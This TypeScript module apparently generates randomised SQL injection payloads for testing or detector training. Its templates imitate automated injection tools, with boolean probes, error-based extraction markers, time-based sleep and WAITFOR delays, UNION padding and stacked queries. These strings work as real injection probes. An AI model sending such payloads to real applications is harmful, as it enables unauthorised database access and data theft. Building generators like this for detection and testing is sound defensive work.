import type { Rng } from './rng.js';

/**
 * The shapes automated SQL injection tools emit: random-number and random-string equalities used as
 * true/false probes, hex-delimited markers around extracted values, ELT/CASE switches, NULL-padded UNIONs.
 */
const num = (rng: Rng) => String(rng.int(1000, 9999));
const tag = (rng: Rng) => Array.from({ length: 4 }, () => String.fromCharCode(rng.pick([65, 97]) + rng.int(0, 25))).join('');
const marker = (rng: Rng) => `0x7${rng.int(0, 9)}${Array.from({ length: 8 }, () => '0123456789abcdef'[rng.int(0, 15)]).join('')}`;

export function toolSqliPayload(rng: Rng): string {
  const n = num(rng);
  const t = tag(rng);
  const prefix = rng.pick(['1', '-1', String(rng.int(1, 9999)), `-${rng.int(1000, 9999)}`, 'a', '']);
  const close = rng.pick(['', "'", '"', ')', "')", '"))', "'))"]);
  const reopen = close.startsWith("'") ? ` AND '${t}'='${t}` : close.startsWith('"') ? ` AND "${t}"="${t}` : close.startsWith(')') ? ` AND (${n}=${n}` : '';
  const core = rng.pick([
    `AND ${n}=${n}`, `AND ${n}=${num(rng)}`, `OR ${n}=${n}`, `OR NOT ${n}=${num(rng)}`,
    `AND (SELECT ${n} FROM(SELECT COUNT(*),CONCAT(${marker(rng)},(SELECT (ELT(${n}=${n},1))),${marker(rng)},FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)`,
    `AND (SELECT ${n} FROM (SELECT(SLEEP(${rng.int(2, 9)})))${t})`, `AND ${n}=(SELECT ${n} FROM PG_SLEEP(${rng.int(2, 9)}))`,
    `WAITFOR DELAY '0:0:${rng.int(2, 9)}'`, `AND ${n}=DBMS_PIPE.RECEIVE_MESSAGE(CHR(${rng.int(65, 90)})||CHR(${rng.int(65, 90)}),${rng.int(2, 9)})`,
    `UNION ALL SELECT ${Array.from({ length: rng.int(1, 9) }, (_, i, ) => (i === 0 ? `CONCAT(${marker(rng)},${marker(rng)},${marker(rng)})` : 'NULL')).sort(() => rng.next() - 0.5).join(',')}`,
    `RLIKE (SELECT (CASE WHEN (${n}=${n}) THEN 1 ELSE 0x28 END))`, `AND EXTRACTVALUE(${n},CONCAT(0x5c,${marker(rng)},(SELECT (ELT(${n}=${n},1))),${marker(rng)}))`,
    `AND ${n}=CAST((CHR(${rng.int(100, 120)})||CHR(${rng.int(100, 120)}))||(SELECT (CASE WHEN (${n}=${n}) THEN 1 ELSE 0 END))::text AS NUMERIC)`,
    `AND ${n} IN (SELECT (CHAR(${rng.int(100, 120)})+CHAR(${rng.int(100, 120)})+(SELECT (CASE WHEN (${n}=${n}) THEN CHAR(49) ELSE CHAR(48) END))))`,
    `ORDER BY ${rng.int(1, 20)}`, `;SELECT PG_SLEEP(${rng.int(2, 9)})`, `;WAITFOR DELAY '0:0:${rng.int(2, 9)}'`, `AND SLEEP(${rng.int(2, 9)})`,
    `AND (SELECT ${n} FROM DUAL WHERE ${n}=${n} AND 1=(SELECT COUNT(*) FROM ALL_USERS))`, `PROCEDURE ANALYSE(EXTRACTVALUE(${n},CONCAT(0x5c,${marker(rng)})),1)`,
  ]);
  const tail = reopen && rng.chance(0.6) ? reopen : rng.pick(['', '-- -', '#', '--', `-- ${t}`, '/*', '-- ']);
  return `${prefix}${close} ${core}${tail.startsWith(' ') || tail === '' ? '' : ' '}${tail}`.trim();
}
